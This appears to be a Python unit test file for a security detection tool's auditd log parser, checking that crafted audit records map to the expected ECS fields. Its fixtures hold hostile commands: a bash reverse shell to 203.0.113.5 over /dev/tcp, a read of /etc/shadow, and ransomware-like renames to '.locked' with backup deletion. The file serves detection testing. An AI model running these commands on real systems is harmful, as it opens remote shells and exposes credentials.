"""Crafted audit records read back by detect's own auditd parser into the expected ECS fields."""

from __future__ import annotations

from datetime import UTC, datetime

from detect.parsers.auditd import AuditdParser
from lab.craft import auditd
from lab.craft.auditd import Actor, PathItem
from tests.unit.detect.parsers.helpers import check, run

AT = datetime(2026, 3, 1, 8, 0, 0, 123000, tzinfo=UTC)
ALICE = Actor("web01", uid=1001, auid=1001, user="alice", login="alice", ses=7, tty="pts0")


def parse(lines: list[str]) -> list[dict[str, object]]:
    events, rejected = run(AuditdParser(), ("\n".join(lines) + "\n").encode())
    assert rejected == []
    return events


def test_encoding_follows_the_kernel() -> None:
    assert auditd.encode("/usr/bin/cat") == '"/usr/bin/cat"'
    assert auditd.encode("a b") == "612062"  # a space makes it hex
    assert auditd.encode('say"hi') == "736179226869"  # so does a double quote
    assert auditd.encode("") == ""
    assert auditd.proctitle(["a", "b"]) == "610062"
    assert len(auditd.proctitle(["x" * 300])) == 2 * auditd.PROCTITLE_MAX


def test_execve_is_one_process_start_with_its_command_line() -> None:
    argv = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/443 0>&1"]
    lines = auditd.execve(ALICE, AT, 77, argv, "/usr/bin/bash", cwd="/home/alice", pid=900)
    assert lines[0].startswith("node=web01 type=SYSCALL msg=audit(1772352000.123:77): ")
    assert lines[-1].startswith("node=web01 type=EOE ")
    (event,) = parse(lines)
    check(
        event,
        {
            "@timestamp": "2026-03-01T08:00:00.123Z",
            "event.dataset": "auditd",
            "event.category": ["process"],
            "event.type": ["start"],
            "event.action": "executed",
            "event.outcome": "success",
            "host.name": "web01",
            "process.executable": "/usr/bin/bash",
            "process.name": "bash",
            "process.pid": 900,
            "process.args": argv,
            "process.command_line": "bash -c bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
            "process.working_directory": "/home/alice",
            "process.tty.name": "pts0",
            "user.id": "1001",
            "user.audit.id": "1001",
            "user.name": "alice",  # ENRICHED UID=
            "auditd.syscall.syscall": "execve",  # ENRICHED SYSCALL= (the raw field says 59)
            "auditd.log.record_types": ["SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE"],
            "auditd.path.name": ["/usr/bin/bash", "/lib64/ld-linux-x86-64.so.2"],
            "tags": ["exec"],
        },
    )


def test_rename_and_unlink_name_the_syscall_and_the_files() -> None:
    lines = auditd.rename(
        ALICE, AT, 78, "/srv/share/a.csv", "/srv/share/a.csv.locked", exe="/tmp/x", argv=["/tmp/x"]
    )
    lines += auditd.unlink(ALICE, AT, 79, "/srv/share/b.bak", exe="/tmp/x", argv=["/tmp/x"])
    renamed, unlinked = parse(lines)
    check(
        renamed,
        {
            "auditd.syscall.syscall": "renameat2",
            "auditd.syscall.arch": "c000003e",
            "auditd.path.nametype": ["PARENT", "PARENT", "DELETE", "CREATE"],
            "auditd.path.name": ["/srv/share/", "/srv/share/", "a.csv", "a.csv.locked"],
            "file.path": "a.csv.locked",
            "process.executable": "/tmp/x",
            "event.action": "syscall",
        },
    )
    assert "event.category" not in renamed  # a file syscall is no process start
    check(unlinked, {"auditd.syscall.syscall": "unlinkat", "file.path": "b.bak"})


def test_watched_open_carries_its_key_and_path() -> None:
    lines = auditd.file_syscall(
        ALICE,
        AT,
        80,
        "openat",
        [PathItem("/etc/shadow", mode="0100640")],
        exe="/usr/bin/cat",
        argv=["cat", "/etc/shadow"],
        key="shadow",
        exit_code=3,
    )
    (event,) = parse(lines)
    check(
        event,
        {
            "auditd.syscall.syscall": "openat",
            "auditd.syscall.exit": "3",
            "auditd.path.name": "/etc/shadow",
            "auditd.proctitle.proctitle": "cat /etc/shadow",
            "tags": ["shadow"],
        },
    )
